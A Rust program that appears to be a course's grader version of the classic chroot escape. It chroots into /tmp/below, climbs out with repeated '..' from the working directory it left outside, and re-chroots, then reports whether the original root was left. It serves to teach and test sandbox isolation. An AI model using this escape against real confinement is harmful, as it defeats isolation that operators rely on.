//! The classic attack on a root, which chapter 1 explains: `steps/01-chroot/examples/escape.rs` in a form for graders.
//!
//! The attacker must be one file that needs no other, inside the root under attack. This program is such a file: started
//! under the name [`NAME`], it attacks.

use std::os::unix::fs::MetadataExt;
use std::process::ExitCode;

/// The name under which this program attacks.
pub const NAME: &str = "escape";

/// What it prints if walking up ends at the root that it was given.
pub const HELD: &str = "held: walking up ends at the root I was given";

/// Walks up, and says where that ended.
pub fn main() -> ExitCode {
    match walk_up() {
        Ok(true) => println!("escaped: this / is not the one I was given"),
        Ok(false) => println!("{HELD}"),
        Err(error) => println!("cannot try: {error}"),
    }
    ExitCode::SUCCESS
}

fn walk_up() -> std::io::Result<bool> {
    let identity = || std::fs::metadata("/").map(|root| (root.dev(), root.ino()));
    let before = identity()?;
    let below = "/tmp/below";
    std::fs::create_dir_all(below)?;
    // The new root is below; the working directory is left where it was, now outside the root.
    std::os::unix::fs::chroot(below)?;
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    std::os::unix::fs::chroot(".")?;
    Ok(before != identity()?)
}
